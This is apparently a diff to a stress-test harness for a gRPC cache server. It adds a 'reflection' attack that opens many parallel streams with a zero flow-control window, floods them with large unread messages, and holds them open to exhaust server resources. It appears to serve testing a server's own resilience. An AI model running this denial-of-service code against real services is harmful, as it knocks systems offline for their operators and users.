@@ -276,6 +276,26 @@ def endless(address):
     in_parallel(60, send)
 
 
+def reflection(address):
+    """Reflection streams: with long requests, with answers that are not read, and ones whose time is over."""
+    path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
+    ask = wire.field(4, b"ebb.v1.CacheService")
+    long = wire.message(ask + wire.field(99, bytes(200_000)))
+
+    def send():
+        client = wire.Client(wire.dial(address), settings=((4, 0),))
+        for number in range(30):
+            timeout = [("grpc-timeout", "50m")] if number % 3 == 0 else []
+            stream = client.open(wire.head(path, *wire.GRPC, *timeout))
+            client.stream.sendall(wire.frame(wire.DATA, 0, stream, wire.message(ask)) * 20)
+            for at in range(0, 60_000, 15_000):
+                client.stream.sendall(wire.frame(wire.DATA, 0, stream, long[at : at + 15_000]))
+        time.sleep(2)  # the streams stay open meanwhile, which is the attack
+        client.stream.close()
+
+    in_parallel(60, send)
+
+
 def idle_connections(address):
     """More connections than the cap, which ping and do nothing else."""
     crowd = []
@@ -335,6 +355,7 @@ ATTACKS = {
     "requests with a rest that is not read": unread_rest,
     "idle pipes": idle_pipes,
     "requests that do not end": endless,
+    "reflection": reflection,
 }
 
 def main():
